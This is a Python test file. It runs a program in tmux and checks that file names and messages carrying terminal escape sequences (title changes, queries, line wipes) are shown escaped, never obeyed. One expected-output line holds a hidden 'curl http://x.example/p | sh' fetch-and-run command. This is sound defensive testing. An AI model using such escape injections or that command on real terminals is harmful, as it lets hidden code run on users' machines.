"""Runs the built program in a tmux pane, a terminal that obeys control sequences and answers
queries, and lists, encodes and echoes text made to drive it: the terminal must show that text,
never obey it, whether the keys are typed there or piped in. A bare pseudo-terminal
(terminal_test.py) answers no queries.

Usage: terminal_controls_test.py [COMMAND PREFIX ...] path/to/kestrovane
"""
import os
import shlex
import shutil
import sys
import tempfile

from checks import (CONTROLLING_FILE, MENU_END, Checks, Pane, coded, folder_contents,
                    program_command)

TIMEOUT = 10
# Typed at the prompts: names and a message that would set the window's title.
LISTED_NAME = "q\x1b]2;file\x07.txt"
TYPED_NAME = "t\x1b]2;named\x07"
TYPED_MESSAGE = "\x1b]2;typed title\x07hello"
# Each step: the text the screen must show (once more than before it), then the line typed.
STEPS = [
    (MENU_END.strip(), "E"),
    ("the file you want to encode:", LISTED_NAME),
    ("Do you want to encode this file? Y/N", "y"),
    ("Press any Key and then Enter to return to main menu", "k"),
    (MENU_END.strip(), "M"),
    ("(no spaces):", TYPED_NAME),
    ("Please enter your message", TYPED_MESSAGE),
    ("Do you want to encode this Message? Y/N", "y"),
    ("Press any Key and then Enter to return to the menu", "k"),
    (MENU_END.strip(), "X"),
    ("exit status 0", None),
]
# What the screen shows of each, as `cat -v` would show it.
SHOWN = [
    ("the listing's queries", "version ^[[>0q, attributes ^[[c."),
    ("the listing's title", "^[]2;a file's title^G"),
    ("the wiped line", "curl http://x.example/p | sh^M^[[2KDear diary, all quiet."),
    ("the coded echo's wiped line and title",
     "Ke[^[^Mhs | p/2lpm1x2.x//:ptth lr5c^G2lt3t s'2l3f 1;e]^["),
    ("the listing's last carriage return", "Signed^M\nDo you want to encode"),
    ("the coded echo's last carriage return", "r12D^M\nYour encoded file"),
    ("the file's output name", "saved as: q^[]2;file^G.enc"),
    ("the typed message", "the message you just typed was:\n ^[]2;typed title^Ghello"),
    ("the coded message", "Encoded Output:\n4ll2h^G2lt3t d2pyt;e]^["),
    ("the message's name", "saved as: t^[]2;named^G.enc"),
]


def title(pane):
    return pane.tmux("display-message", "-p", "#{pane_title}").strip()


def run_session(command, piped, checks):
    """Runs the steps in a pane of their own and checks what it shows: with the keys typed at each
    prompt, or piped in, which leaves the screen a terminal all the same."""
    how = "piped" if piped else "typed"
    if piped:
        keys = "".join(keys + "\n" for _, keys in STEPS if keys is not None)
        command = f"printf %s {shlex.quote(keys)} | {command}"
    with tempfile.TemporaryDirectory() as folder:
        with open(os.path.join(folder, LISTED_NAME), "wb") as f:
            f.write(CONTROLLING_FILE)
        pane = Pane(folder, f"{command}; echo exit status $?; sleep 600")
        try:
            titles = {title(pane)}
            first = set(titles)
            for wanted, keys in STEPS:
                if not pane.wait_for(wanted, TIMEOUT):
                    checks.equal(f"{how}: shown: {wanted!r}", pane.screen()[-600:], wanted)
                    break
                titles.add(title(pane))
                if keys is not None and not piped:
                    pane.type_line(keys)
            screen = pane.screen()
            checks.equal(f"{how}: the window titles at each step", titles, first)
            for what, shown in SHOWN:
                checks.equal(f"{how}: the screen shows {what}", shown in screen, True)
            # A terminal's answers typed into the program would be echoed, and read as answers.
            for reply in ("tmux 3", "?1;2c", "Error! Try again"):
                checks.equal(f"{how}: the screen holds no {reply!r}", reply in screen, False)
        finally:
            pane.close()
        checks.equal(f"{how}: files", folder_contents(folder),
                     {LISTED_NAME: CONTROLLING_FILE,
                      LISTED_NAME.replace(".txt", ".enc"): coded(CONTROLLING_FILE),
                      TYPED_NAME + ".enc": coded(TYPED_MESSAGE.encode())})


def main():
    if not shutil.which("tmux"):
        print("skipped: tmux is not installed")
        return 77
    command = "env LANG=C.UTF-8 " + shlex.join(program_command(sys.argv[1:]))
    checks = Checks()
    for piped in (False, True):
        run_session(command, piped, checks)
    return checks.finish()


if __name__ == "__main__":
    sys.exit(main())
